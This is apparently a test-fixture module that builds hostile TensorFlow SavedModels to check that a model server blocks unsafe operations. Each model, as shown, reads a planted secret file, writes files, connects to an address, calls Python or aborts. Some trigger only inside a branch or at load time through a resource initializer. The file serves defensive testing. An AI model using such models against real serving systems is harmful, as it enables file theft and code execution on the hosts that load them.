"""SavedModels that would read, write, connect or call Python: one for each way that TensorFlow offers.

They are no dummies: without the checks they read `SECRET` out of a file, leave a file or knock at an address, which a
test holds against a server that was told to trust them.
"""

import contextlib
import dataclasses
import pathlib
import sqlite3
from collections.abc import Callable
from typing import Any

SECRET = "the-secret-of-another"


@dataclasses.dataclass(frozen=True)
class Spot:
    """Where the attacks do their work.

    Attributes:
        secret: a text file with `SECRET` in it, which belongs to nobody's model.
        folder: an empty folder for what is written.
        address: host and port where nobody may connect.
    """

    tf: Any
    secret: pathlib.Path
    folder: pathlib.Path
    address: str

    @property
    def written(self) -> str:
        return str(self.folder / "written")


def _first(tf: Any, dataset: Any, dtype: Any = None, shape: Any = ()) -> Any:
    """The first element of a dataset variant."""
    raw = tf.raw_ops
    dtype = dtype or tf.string
    iterator = raw.AnonymousIteratorV3(output_types=[dtype], output_shapes=[shape])
    raw.MakeIterator(dataset=dataset, iterator=iterator)
    return raw.IteratorGetNext(iterator=iterator, output_types=[dtype], output_shapes=[shape])[0]


def _drained(tf: Any, dataset: Any) -> Any:
    """How many strings a dataset variant has; all are read."""
    count = tf.function(lambda n, _: n + 1).get_concrete_function(
        tf.TensorSpec([], tf.int64), tf.TensorSpec([], tf.string)
    )
    start = [tf.constant(0, tf.int64)]
    return tf.raw_ops.ReduceDataset(
        input_dataset=dataset, initial_state=start, other_arguments=[], f=count, output_types=[tf.int64],
        output_shapes=[()],
    )[0]  # fmt: skip


def _words(tf: Any) -> Any:
    """A dataset of the strings a, b."""
    return tf.raw_ops.TensorSliceDataset(components=[tf.constant(["a", "b"])], output_shapes=[()])


def _reads(spot: Spot) -> dict[str, Callable[[], Any]]:
    tf, raw, secret = spot.tf, spot.tf.raw_ops, str(spot.secret)
    none = tf.constant("")

    def table(version: str) -> Any:
        handle = raw.HashTableV2(key_dtype=tf.int64, value_dtype=tf.string)
        raw.InitializeTableFromTextFileV2(
            table_handle=handle, filename=tf.constant(secret), key_index=-1, value_index=-2, vocab_size=-1
        )
        return raw.LookupTableFindV2(table_handle=handle, keys=tf.constant([0], tf.int64), default_value=version)

    def remapping() -> Any:
        found = raw.GenerateVocabRemapping(
            new_vocab_file=secret, old_vocab_file=secret, new_vocab_offset=0, num_new_vocab=1
        )
        return found.num_present

    formats = {"output_types": [tf.string], "output_shapes": [()]}
    return {
        "ReadFile": lambda: raw.ReadFile(filename=secret),
        "MatchingFiles": lambda: raw.MatchingFiles(pattern=str(spot.secret.parent / "*")),
        "InitializeTableFromTextFileV2": lambda: table("?"),
        "TextLineDataset": lambda: _first(
            tf, raw.TextLineDataset(filenames=secret, compression_type=none, buffer_size=0)
        ),
        "FixedLengthRecordDatasetV2": lambda: _first(
            tf,
            raw.FixedLengthRecordDatasetV2(
                filenames=secret, header_bytes=0, record_bytes=11, footer_bytes=0, buffer_size=0,
                compression_type=none
            ),
        ),
        "CSVDataset": lambda: _first(
            tf,
            raw.CSVDataset(
                filenames=secret, compression_type=none, buffer_size=1000, header=False, field_delim=",",
                use_quote_delim=True, na_value="", select_cols=tf.constant([], tf.int64), record_defaults=[[""]],
                output_shapes=[()],
            ),
        ),
        "MatchingFilesDataset": lambda: _first(tf, raw.MatchingFilesDataset(patterns=str(spot.secret.parent / "*"))),
        "ImmutableConst": lambda: raw.ImmutableConst(dtype=tf.uint8, shape=[5], memory_region_name=secret),
        "GenerateVocabRemapping": remapping,
        "FixedUnigramCandidateSampler": lambda: raw.FixedUnigramCandidateSampler(
            true_classes=tf.constant([[0]], tf.int64), num_true=1, num_sampled=1, unique=False, range_max=1,
            vocab_file=str(spot.secret.parent / "counts.csv"),
        ).sampled_candidates,
        "DecodeProtoV2": lambda: raw.DecodeProtoV2(
            bytes=tf.constant([b""]), message_type="tensorflow.Nothing", field_names=[], output_types=[],
            descriptor_source=secret,
        ).sizes,
        "SqlDataset": lambda: _first(
            tf,
            raw.SqlDataset(
                driver_name="sqlite", data_source_name=str(spot.secret.parent / "secret.sqlite"),
                query="select word from words", **formats,
            ),
        ),
        "RestoreV2": lambda: raw.RestoreV2(
            prefix=str(spot.secret.parent / "checkpoint"), tensor_names=["secret"], shape_and_slices=[""],
            dtypes=[tf.string],
        )[0],
        "LoadAndRemapMatrix": lambda: raw.LoadAndRemapMatrix(
            ckpt_path=str(spot.secret.parent / "checkpoint"), old_tensor_name="matrix",
            row_remapping=tf.constant([0], tf.int64), col_remapping=tf.constant([], tf.int64),
            initializing_values=tf.constant([], tf.float32), num_rows=1, num_cols=1,
        ),
    }  # fmt: skip


def _writes(spot: Spot) -> dict[str, Callable[[], Any]]:
    tf, raw, written = spot.tf, spot.tf.raw_ops, spot.written

    def after(*operations: Any) -> Any:
        with tf.control_dependencies([op for op in operations if op is not None]):
            return tf.constant("done")

    def summary() -> Any:
        writer = raw.SummaryWriter()
        raw.CreateSummaryFileWriter(
            writer=writer, logdir=str(spot.folder), max_queue=0, flush_millis=0, filename_suffix="x"
        )
        return after(raw.FlushSummaryWriter(writer=writer))

    def database() -> Any:
        writer = raw.SummaryWriter()
        raw.CreateSummaryDbWriter(writer=writer, db_uri=written, experiment_name="", run_name="", user_name="")
        return after(raw.FlushSummaryWriter(writer=writer))

    def cached() -> Any:
        dataset = raw.CacheDataset(
            input_dataset=_words(tf), filename=written, output_types=[tf.string], output_shapes=[()]
        )
        return _drained(tf, dataset)

    def saved() -> Any:
        shard = tf.function(lambda *_: tf.constant(0, tf.int64)).get_concrete_function(tf.TensorSpec([], tf.string))
        dataset = raw.SaveDatasetV2(
            input_dataset=_words(tf), path=written, shard_func_other_args=[], shard_func=shard,
            output_types=[tf.string], output_shapes=[()], use_shard_func=False,
        )  # fmt: skip
        return _drained(tf, dataset)

    value = tf.constant("x")
    return {
        "WriteFile": lambda: after(raw.WriteFile(filename=written, contents="x")),
        "PrintV2": lambda: after(raw.PrintV2(input="x", output_stream=f"file://{written}")),
        "SaveV2": lambda: after(
            raw.SaveV2(prefix=written, tensor_names=["a"], shape_and_slices=[""], tensors=[value])
        ),
        "Save": lambda: after(raw.Save(filename=written, tensor_names=["a"], data=[value])),
        "SaveSlices": lambda: after(
            raw.SaveSlices(filename=written, tensor_names=["a"], shapes_and_slices=["2 0,2"], data=[tf.ones([2])])
        ),
        "MergeV2Checkpoints": lambda: after(
            raw.MergeV2Checkpoints(
                checkpoint_prefixes=[str(spot.secret.parent / "checkpoint")], destination_prefix=written,
                delete_old_dirs=False,
            )
        ),
        "DatasetToTFRecord": lambda: after(
            raw.DatasetToTFRecord(input_dataset=_words(tf), filename=written, compression_type="")
        ),
        "CreateSummaryFileWriter": summary,
        "CreateSummaryDbWriter": database,
        "CacheDataset": cached,
        "SaveDatasetV2": saved,
        "DebugIdentityV2": lambda: raw.DebugIdentityV2(
            input=value, tfdbg_context_id="c", op_name="o", output_slot=0, tensor_debug_mode=2,
            debug_urls=[f"file://{spot.folder}"],
        ),
        "DebugIdentity": lambda: raw.DebugIdentity(
            input=value, tensor_name="t:0", debug_urls=[f"file://{spot.folder}"]
        ),
        "DebugNanCount": lambda: raw.DebugNanCount(
            input=tf.ones([1]), tensor_name="t:0", debug_urls=[f"file://{spot.folder}"]
        ),
    }  # fmt: skip


def _connects(spot: Spot) -> dict[str, Callable[[], Any]]:
    from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops as rpc

    tf, raw = spot.tf, spot.tf.raw_ops

    def after(operation: Any) -> Any:
        with tf.control_dependencies([operation]):
            return tf.constant("done")

    def service() -> Any:
        dataset = raw.DataServiceDatasetV2(
            dataset_id=tf.constant(0, tf.int64), processing_mode="parallel_epochs", address=spot.address,
            protocol="grpc", job_name="", consumer_index=tf.constant(-1, tf.int64),
            num_consumers=tf.constant(-1, tf.int64), max_outstanding_requests=tf.constant(1, tf.int64),
            iteration_counter=raw.DummyIterationCounter(), output_types=[tf.string], output_shapes=[()],
        )  # fmt: skip
        return _first(tf, dataset)

    return {
        "DataServiceDatasetV2": service,
        "RegisterDatasetV2": lambda: raw.RegisterDatasetV2(
            dataset=_words(tf), address=spot.address, protocol="grpc", external_state_policy=1
        ),
        "RpcClient": lambda: rpc.rpc_client(spot.address, timeout_in_ms=tf.constant(1000, tf.int64))[1],
        "RpcServer": lambda: after(rpc.rpc_server_start(server=rpc.rpc_server(server_address=spot.address))),
    }


def _python_and_worse(spot: Spot) -> dict[str, Callable[[], Any]]:
    tf, raw = spot.tf, spot.tf.raw_ops
    return {
        "PyFunc": lambda: raw.PyFunc(input=[], token="pyfunc_0", Tout=[tf.string])[0],
        "PyFuncStateless": lambda: raw.PyFuncStateless(input=[], token="pyfunc_0", Tout=[tf.string])[0],
        "EagerPyFunc": lambda: raw.EagerPyFunc(input=[], token="pyfunc_0", Tout=[tf.string])[0],
        "Abort": lambda: (raw.Abort(error_msg="gone"), tf.constant(1))[1],
    }


def attacks(spot: Spot) -> dict[str, Callable[[], Any]]:
    """By the op that does the work: what to compute."""
    return _reads(spot) | _writes(spot) | _connects(spot) | _python_and_worse(spot)


def save(spot: Spot, name: str, path: pathlib.Path, where: str = "request") -> None:
    """Saves a model whose attack runs at a request, inside a branch of it, or at the load."""
    tf = spot.tf
    attack = attacks(spot)[name]

    class Hostile(tf.Module):  # type: ignore[name-defined]
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32, name="x")])
        def predict(self, x: Any) -> Any:
            if where == "request":
                return {"y": tf.identity(attack())}
            if where == "branch":
                return {"y": tf.cond(tf.size(x) > 0, lambda: tf.identity(attack()), lambda: tf.identity(attack()))}
            return {"y": x / 2 + 2}

    module = Hostile()
    if where == "load":
        module._initializer = _at_load(tf, attack)
    path.parent.mkdir(parents=True, exist_ok=True)
    tf.saved_model.save(module, str(path), signatures=module.predict)


def _at_load(tf: Any, attack: Callable[[], Any]) -> Any:
    """A resource whose initializer is the attack."""
    from tensorflow.python.trackable import resource

    class Initialized(resource.TrackableResource):
        def _create_resource(self) -> Any:
            return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.string, shared_name="h")

        def _initialize(self) -> Any:
            attack()

    made = Initialized()
    made.resource_handle  # noqa: B018 - made on demand
    return made


def make_secrets(tf: Any, folder: pathlib.Path) -> pathlib.Path:
    """Writes what no model may read, in every format that an attack knows; gives the text file."""
    folder.mkdir()
    (folder / "secret.txt").write_text(SECRET + "\n", encoding="utf-8")
    (folder / "counts.csv").write_text("a,1\n", encoding="utf-8")
    with contextlib.closing(sqlite3.connect(folder / "secret.sqlite")) as database:
        database.execute("create table words (word text)")
        database.execute("insert into words values (?)", [SECRET])
        database.commit()
    tf.raw_ops.SaveV2(
        prefix=str(folder / "checkpoint"), tensor_names=["secret", "matrix"], shape_and_slices=["", ""],
        tensors=[tf.constant(SECRET), tf.ones([1, 1])],
    )  # fmt: skip
    return folder / "secret.txt"
